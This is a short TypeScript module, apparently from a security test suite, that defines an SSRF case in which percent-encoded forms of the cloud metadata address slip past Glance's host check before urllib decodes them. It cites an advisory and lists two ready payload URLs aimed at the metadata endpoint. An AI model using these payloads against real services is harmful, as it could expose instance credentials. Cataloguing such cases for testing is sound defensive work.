// Percent-encoded address.
import { createUrlAttack } from '../mechanisms/url-attack';

export const attack = createUrlAttack({
  id: 'ssrf-percent-encoded-address',
  title: 'Percent-encoded address',
  severity: 'critical',
  words:
    'urllib decodes the host after Glance has compared it: 169.254.169%2e254 passes as text and connects as an address.',
  references: ['CVE-2026-34881 (OSSA-2026-004)'],
  urls: () => ['http://%31%36%39.254.169.254/', 'http://169.254.169%2e254/latest/meta-data/'],
});
